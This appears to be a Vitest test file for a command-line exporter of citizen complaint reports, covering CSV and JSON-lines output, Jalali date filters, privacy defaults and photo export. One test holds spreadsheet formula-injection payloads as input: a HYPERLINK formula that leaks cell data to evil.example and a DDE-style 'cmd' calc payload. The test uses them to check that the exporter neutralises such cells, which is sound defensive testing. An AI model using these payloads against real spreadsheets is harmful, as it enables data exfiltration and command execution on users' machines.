import { execFile } from "node:child_process";
import { mkdtemp, readdir, readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { useTestDb } from "../support/test-db.ts";
import { cleanEnv } from "../support/child-process.ts";
import { ROOT, uriFor } from "./run-script.ts";
import { submitReport, type SubmitInput } from "../../models/report/report-submit.ts";
import { rateCase, rejectCase, resolveCase, takeCase } from "../../models/report/case-actions.ts";
import { seedOnSiteVisit } from "../support/visit-steps.ts";
import mongoose, { Types } from "mongoose";
import { readPhoto, storeCleanPhoto } from "../../models/report/photos.ts";
import { tinyPhoto } from "../support/photo-bytes.ts";
import type { StaffMember } from "../../models/people/staff.ts";
import { Report, type ReportDoc } from "../../models/report/report.ts";
import { Region } from "../../models/geography/region.ts";

const { uri, dbName } = useTestDb({ cleanEach: true });

const HOUR = 3_600_000;
const T0 = new Date("2026-03-01T06:00:00Z"); // 10 Esfand 1404, 09:30 in Tehran
const at = (h: number) => new Date(T0.getTime() + h * HOUR);
const OFFICIAL: StaffMember = {
  platform: "telegram",
  userId: 9001,
  name: "Karimi",
  role: "official",
  regions: [],
  departments: [],
};
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3, 250, 0, 7, 0xff, 0xd9]);
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);

/**
 * Bytes written straight into GridFS, as photos stored before they were re-encoded (photo-clean.ts)
 * still are: the export must name them by what they are, and copy them unchanged.
 */
async function storeLegacyPhoto(bytes: Uint8Array, filename: string): Promise<Types.ObjectId> {
  const id = new Types.ObjectId();
  const bucket = new mongoose.mongo.GridFSBucket(mongoose.connection.db!, { bucketName: "photos" });
  await new Promise<void>((resolve, reject) => {
    const upload = bucket.openUploadStreamWithId(id, filename, { metadata: { contentType: "image/jpeg" } });
    upload.once("error", reject);
    upload.once("finish", () => resolve());
    upload.end(bytes);
  });
  return id;
}

const DATE_ERROR = "(YYYY-MM-DD Jalali or Gregorian, e.g. 1405-09-01 or 2026-11-22, or ISO, e.g. 2026-11-28T05:30:00Z)";

/** stdout and stderr apart: stdout must stay clean data. */
function exportCli(args: string[], env: Record<string, string> = {}) {
  return new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
    execFile(
      process.execPath,
      ["--import", "tsx", "scripts/export.ts", ...args],
      {
        cwd: ROOT,
        env: cleanEnv({ MONGODB_URI: uriFor(uri, dbName), TZ_NAME: "Asia/Tehran", ...env }),
        maxBuffer: 1 << 26,
      },
      (err, stdout, stderr) => resolve({ code: err ? Number(err.code ?? 1) : 0, stdout, stderr }),
    );
  });
}

let seq = 0;
async function submit(over: Partial<SubmitInput>): Promise<ReportDoc> {
  seq++;
  const { report } = await submitReport({
    submissionKey: `export-${seq}`,
    platform: "telegram",
    citizen: {
      userId: 5000 + seq,
      chatId: 5000 + seq,
      name: "Sara Ahmadi",
      username: "sara_a",
      phone: "+989121234567",
      locale: "fa",
    },
    categoryKey: "water",
    description: "لوله آب شکسته است",
    location: null,
    address: "",
    venueTitle: "",
    photos: [],
    route: { regionKey: "", chat: null, needsLocationCheck: true },
    now: T0,
    ...over,
  });
  return report;
}

/**
 * A: water in r1 with a photo, taken at +1 h, resolved at +5 h (SLA 12 h: in time), rated 4.
 * B: road in r2 a day later, still new. C: lighting in r1 two days later, rejected.
 */
async function seed(): Promise<{ a: ReportDoc; b: ReportDoc; c: ReportDoc }> {
  const photoId = await storeLegacyPhoto(JPEG, "a.jpg");
  const a = await submit({
    description: 'pipe burst, "urgent"',
    address: "خیابان آزادی، پلاک ۱۲",
    venueTitle: "مدرسه بهار",
    location: { lat: 35.85, lon: 50.9 },
    route: { regionKey: "r1", chat: null, needsLocationCheck: false },
    photos: [{ fileId: "f1", fileUniqueId: "u1", gridfsId: photoId, mime: "image/jpeg", size: JPEG.length }],
  });
  await takeCase(a._id, OFFICIAL, at(1));
  await seedOnSiteVisit(a, OFFICIAL, at(5)); // water and road need one before Resolve
  await resolveCase(a._id, OFFICIAL, "fixed", null, at(5));
  await rateCase(a._id, "telegram", a.citizen.userId, 4, at(6));
  const b = await submit({
    categoryKey: "road",
    route: { regionKey: "r2", chat: null, needsLocationCheck: false },
    now: at(24),
  });
  const c = await submit({
    categoryKey: "lighting",
    route: { regionKey: "r1", chat: null, needsLocationCheck: false },
    now: at(48),
  });
  await rejectCase(c._id, OFFICIAL, "not ours", at(51));
  return { a, b, c };
}

// Default: no free-text column (address, venue, description may name people); the code as text ('…).
const HEADER =
  "code,platform,status,category,department,region,created_at,created_jalali,resolved_at,resolved_jalali,lat,lon,assignee,first_response_hours,resolve_hours,within_sla,rating,photos,visits,onsite_visit,first_visit_hours";
const rowA = (code: string) =>
  `'${code},telegram,resolved,water,water,r1,2026-03-01T06:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,2026-03-01T11:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰,35.85,50.9,Karimi,1,5,yes,4,1,1,yes,5`;
const rowB = (code: string) =>
  `'${code},telegram,new,road,roads,r2,2026-03-02T06:00:00.000Z,۱۱ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,,,,,0,0,no,`;
const rowC = (code: string) =>
  `'${code},telegram,rejected,lighting,lighting,r1,2026-03-03T06:00:00.000Z,۱۲ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,3,,,,0,0,no,`;
// --with-text (or --with-personal): the free-text columns come back in their place, after lat/lon.
const HEADER_TEXT =
  "code,platform,status,category,department,region,created_at,created_jalali,resolved_at,resolved_jalali,lat,lon,address,venue_title,description,assignee,first_response_hours,resolve_hours,within_sla,rating,photos,visits,onsite_visit,first_visit_hours";
const rowAText = (code: string) =>
  `'${code},telegram,resolved,water,water,r1,2026-03-01T06:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,2026-03-01T11:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰,35.85,50.9,خیابان آزادی، پلاک ۱۲,مدرسه بهار,"pipe burst, ""urgent""",Karimi,1,5,yes,4,1,1,yes,5`;
const rowBText = (code: string) =>
  `'${code},telegram,new,road,roads,r2,2026-03-02T06:00:00.000Z,۱۱ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,,لوله آب شکسته است,,,,,,0,0,no,`;

const lines = (csv: string) =>
  csv
    .replace(/^\uFEFF/, "")
    .trimEnd()
    .split("\n");

// Each case spawns a tsx child (a second or two apiece): a wider budget than the default.
describe("npm run export (scripts/export.ts as a child process)", { timeout: 180_000 }, () => {
  it("--help: usage, says personal data is off by default, exit 0", async () => {
    const help = await exportCli(["--help"]);
    expect(help.code).toBe(0);
    expect(help.stdout.split("\n")[0]).toBe(
      "Usage: npm run export -- [--format csv|jsonl] [--out <file>] [filters] [--with-text] [--with-personal] [--photos <dir>]",
    );
    expect(help.stdout).toMatch(/--with-personal .*off by default/);
    expect(help.stdout).toMatch(/--with-text .*description, address and venue title .*off by default/);
    expect(help.stdout).toMatch(/--from <date> .*Jalali \(e\.g\. 1405-09-01: a year below 1700\)/);
  });

  it("Jalali --from/--to (a year below 1700) are Tehran days like the Gregorian ones; Persian digits and / accepted", async () => {
    const { a, b, c } = await seed();
    const codes = async (args: string[]) =>
      lines((await exportCli(args)).stdout)
        .slice(1)
        .map((l) => l.split(",")[0]!.replace(/^'/, ""));
    // A: 10 Esfand 1404 (2026-03-01), B: 11 Esfand, C: 12 Esfand.
    const got = await Promise.all([
      codes(["--from", "1404-12-11", "--to", "1404-12-11"]),
      codes(["--to", "۱۴۰۴-۱۲-۱۰"]),
      codes(["--from", "1404/12/12"]),
      codes(["--from", "2026-03-02", "--to", "2026-03-02"]),
    ]);
    expect(got).toEqual([[b.code], [a.code], [c.code], [b.code]]);
  });

  it("an unknown --region is refused with one line naming the known regions, like a bad --status (exit 1, nothing on stdout)", async () => {
    await seed();
    const known = ((await Region.distinct("key")) as string[]).sort();
    expect(known).toContain("r1");
    const r = await exportCli(["--region", "r1,nowhere"]);
    expect(r).toEqual({
      code: 1,
      stdout: "",
      stderr: `--region "nowhere" is not a region; regions: ${known.join(", ")}\n`,
    });
  });

  it("CSV to stdout: BOM, header, one exact row per report oldest first; progress only on stderr", async () => {
    const { a, b, c } = await seed();
    const r = await exportCli([]);
    expect(r.code).toBe(0);
    expect(r.stdout.startsWith("\uFEFFcode,")).toBe(true);
    expect(lines(r.stdout)).toEqual([HEADER, rowA(a.code), rowB(b.code), rowC(c.code)]);
    expect(r.stderr).toContain("exported 3 reports");
  });

  it("filters: status, region + category, date range (YYYY-MM-DD = a Tehran day, --to inclusive), ISO", async () => {
    const { a, b, c } = await seed();
    // The code cell is text for Excel ('12345678): the code is what follows the apostrophe.
    const codes = async (args: string[]) =>
      lines((await exportCli(args)).stdout)
        .slice(1)
        .map((l) => l.split(",")[0]!.replace(/^'/, ""));
    // Independent children: run them side by side.
    const got = await Promise.all([
      codes(["--status", "new,assigned"]),
      codes(["--region", "r1", "--category", "lighting,garbage"]),
      codes(["--region", "r1,r2", "--status", "resolved,rejected"]),
      codes(["--from", "2026-03-02", "--to", "2026-03-02"]),
      codes(["--from", "2026-03-02T06:00:01Z"]),
      codes(["--to", "2026-03-01"]),
      codes(["--category", "green"]),
    ]);
    expect(got).toEqual([[b.code], [c.code], [a.code, c.code], [b.code], [c.code], [a.code], []]);
  });

  it("--format jsonl to --out: one JSON object per line with typed values", async () => {
    const { a, b } = await seed();
    const dir = await mkdtemp(path.join(tmpdir(), "export-"));
    const out = path.join(dir, "reports.jsonl");
    const r = await exportCli(["--format", "jsonl", "--out", out, "--status", "resolved,new", "--with-text"]);
    expect(r).toMatchObject({ code: 0, stdout: "" });
    const rows = (await readFile(out, "utf8"))
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual({
      code: a.code,
      platform: "telegram",
      status: "resolved",
      category: "water",
      department: "water",
      region: "r1",
      created_at: "2026-03-01T06:00:00.000Z",
      created_jalali: "۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰",
      resolved_at: "2026-03-01T11:00:00.000Z",
      resolved_jalali: "۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰",
      lat: 35.85,
      lon: 50.9,
      address: "خیابان آزادی، پلاک ۱۲",
      venue_title: "مدرسه بهار",
      description: 'pipe burst, "urgent"',
      assignee: "Karimi",
      first_response_hours: 1,
      resolve_hours: 5,
      within_sla: true,
      rating: 4,
      photos: 1,
      visits: 1,
      onsite_visit: true,
      first_visit_hours: 5,
    });
    expect(rows[1]).toMatchObject({
      code: b.code,
      status: "new",
      lat: null,
      resolved_at: null,
      within_sla: null,
      rating: null,
    });
    expect(Object.keys(rows[1]!)).not.toContain("citizen_name");
  });

  it("personal data only with --with-personal", async () => {
    const { a } = await seed();
    const plain = await exportCli(["--status", "resolved"]);
    expect(plain.stdout).not.toContain("Sara");
    expect(plain.stdout).not.toContain("+98912");
    const personal = await exportCli(["--status", "resolved", "--with-personal"]);
    // The phone starts with "+": neutralised like any formula-looking cell (Excel would read +98… as a formula or a number).
    expect(lines(personal.stdout)).toEqual([
      `${HEADER_TEXT},citizen_name,citizen_username,citizen_phone`,
      `${rowAText(a.code)},Sara Ahmadi,sara_a,'+989121234567`,
    ]);
  });

  it("free text (description, address, venue title) is left out by default, in CSV and JSON lines; --with-text brings it back", async () => {
    const { a, b } = await seed();
    const [plain, jsonl, text] = await Promise.all([
      exportCli(["--status", "resolved,new"]),
      exportCli(["--status", "resolved,new", "--format", "jsonl"]),
      exportCli(["--status", "resolved,new", "--with-text"]),
    ]);
    for (const secret of ["pipe burst", "خیابان آزادی", "مدرسه بهار", "لوله آب"]) {
      expect(plain.stdout).not.toContain(secret);
      expect(jsonl.stdout).not.toContain(secret);
    }
    expect(lines(plain.stdout)).toEqual([HEADER, rowA(a.code), rowB(b.code)]);
    expect(Object.keys(JSON.parse(jsonl.stdout.split("\n")[0]!) as object)).not.toContain("description");
    expect(lines(text.stdout)).toEqual([HEADER_TEXT, rowAText(a.code), rowBText(b.code)]);
    // Still no personal columns: --with-text is about the report's text only.
    expect(text.stdout).not.toContain("Sara");
  });

  it("cells that a spreadsheet would run as a formula (=, +, -, @, tab, CR) are neutralised with a leading apostrophe; numbers stay numbers", async () => {
    const r = await submit({
      description: '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
      address: "@SUM(1+1)*cmd|' /C calc'!A0",
      venueTitle: "\t=1+1",
      citizen: { userId: 7001, chatId: 7001, name: "+Sara", username: "-sara", phone: "09121234567", locale: "fa" },
      location: { lat: 35.85, lon: -0.5 },
      route: { regionKey: "r1", chat: null, needsLocationCheck: false },
    });
    await Report.updateOne({ _id: r._id }, { $set: { assignee: { platform: "telegram", userId: 1, name: "\r=2+2" } } });
    const out = await exportCli(["--with-personal"]);
    const row = lines(out.stdout)[1]!;
    // lat, lon (a negative number is a number, written as is), address, venue, description, assignee.
    expect(row).toContain(
      `,35.85,-0.5,'@SUM(1+1)*cmd|' /C calc'!A0,'\t=1+1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")","'\r=2+2",`,
    );
    expect(row.endsWith(",'+Sara,'-sara,09121234567")).toBe(true);
    // JSON lines are data for programs, not spreadsheets: values as stored.
    const json = JSON.parse((await exportCli(["--with-personal", "--format", "jsonl"])).stdout) as Record<
      string,
      unknown
    >;
    expect(json).toMatchObject({
      description: '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
      citizen_name: "+Sara",
    });
  });

  it("the code column is text in Excel: a code with leading zeros keeps them (CSV '0…, JSON a string)", async () => {
    const r = await submit({});
    await Report.updateOne({ _id: r._id }, { $set: { code: "00123455" } });
    const csv = await exportCli([]);
    expect(lines(csv.stdout)[1]!.split(",")[0]).toBe("'00123455");
    const json = JSON.parse((await exportCli(["--format", "jsonl"])).stdout) as Record<string, unknown>;
    expect(json.code).toBe("00123455");
  });

  it("--photos <dir> writes each report's GridFS photos byte-equal as <code>-<n>.jpg", async () => {
    const { a } = await seed();
    const dir = path.join(await mkdtemp(path.join(tmpdir(), "export-")), "photos");
    const r = await exportCli(["--photos", dir, "--out", path.join(dir, "..", "r.csv")]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("exported 3 reports, 1 photos to");
    expect(await readdir(dir)).toEqual([`${a.code}-1.jpg`]);
    expect((await readFile(path.join(dir, `${a.code}-1.jpg`))).equals(JPEG)).toBe(true);
  });

  it("--photos saves each photo with the extension of its real type, read from its bytes: a PNG as .png, a JPEG as .jpg", async () => {
    // Two stored before photos were re-encoded (typed image/jpeg whatever they were), and a PNG
    // stored today: it is kept as a JPEG, so it is exported as one.
    const png = await storeLegacyPhoto(PNG, "p.png");
    const jpeg = await storeLegacyPhoto(JPEG, "j.jpg");
    const sentPng = tinyPhoto("new-png");
    const cleaned = await storeCleanPhoto(sentPng, {
      filename: "n.png",
      source: { platform: "telegram", fileUniqueId: "n1" },
    });
    const r = await submit({
      photos: [
        { fileId: "p", fileUniqueId: "p1", gridfsId: png, mime: "image/jpeg", size: PNG.length },
        { fileId: "j", fileUniqueId: "j1", gridfsId: jpeg, mime: "image/jpeg", size: JPEG.length },
        { fileId: "n", fileUniqueId: "n1", gridfsId: cleaned.id, mime: cleaned.contentType, size: cleaned.size },
      ],
    });
    const dir = path.join(await mkdtemp(path.join(tmpdir(), "export-")), "photos");
    const run = await exportCli(["--photos", dir, "--out", path.join(dir, "..", "r.csv")]);
    expect(run.code).toBe(0);
    expect((await readdir(dir)).sort()).toEqual([`${r.code}-1.png`, `${r.code}-2.jpg`, `${r.code}-3.jpg`]);
    expect((await readFile(path.join(dir, `${r.code}-1.png`))).equals(PNG)).toBe(true);
    expect((await readFile(path.join(dir, `${r.code}-2.jpg`))).equals(JPEG)).toBe(true);
    const third = await readFile(path.join(dir, `${r.code}-3.jpg`));
    expect(third.equals(await readPhoto(cleaned.id))).toBe(true);
    expect(third.equals(Buffer.from(sentPng))).toBe(false);
  });

  it("bad date, status, format or option: exit 1 with one line, nothing on stdout", async () => {
    const runs: Promise<void>[] = [];
    for (const [args, message] of [
      [["--from", "2026-13-01"], `--from "2026-13-01" is not a date ${DATE_ERROR}\n`],
      [["--to", "yesterday"], `--to "yesterday" is not a date ${DATE_ERROR}\n`],
      // 1404 is a common Jalali year: no 30 Esfand.
      [["--to", "1404-12-30"], `--to "1404-12-30" is not a date ${DATE_ERROR}\n`],
      [
        ["--status", "new,open"],
        `--status "open" is not a status; statuses: new, assigned, in_progress, resolved, rejected, duplicate, reopened\n`,
      ],
      [["--format", "xlsx"], `--format "xlsx" is not one of csv, jsonl\n`],
    ] as const) {
      runs.push(exportCli([...args]).then((r) => expect(r).toEqual({ code: 1, stdout: "", stderr: message })));
    }
    await Promise.all(runs);
    const unknown = await exportCli(["--nope"]);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr.trimEnd().split("\n")).toHaveLength(1);
    expect(unknown.stderr).toMatch(/--nope.*\(see --help\)/);
  });

  it("no MONGODB_URI or an unreachable one: exit 1 with one line", async () => {
    const none = await exportCli([], { MONGODB_URI: "" });
    expect(none).toMatchObject({ code: 1, stdout: "" });
    expect(none.stderr).toMatch(/^MONGODB_URI is not set.*\n$/);
    const down = await exportCli([], { MONGODB_URI: "mongodb://127.0.0.1:1/c137" });
    expect(down).toMatchObject({ code: 1, stdout: "" });
    expect(down.stderr).toMatch(/^cannot reach MongoDB at mongodb:\/\/127\.0\.0\.1:1\/c137: .+\n$/);
  });
});
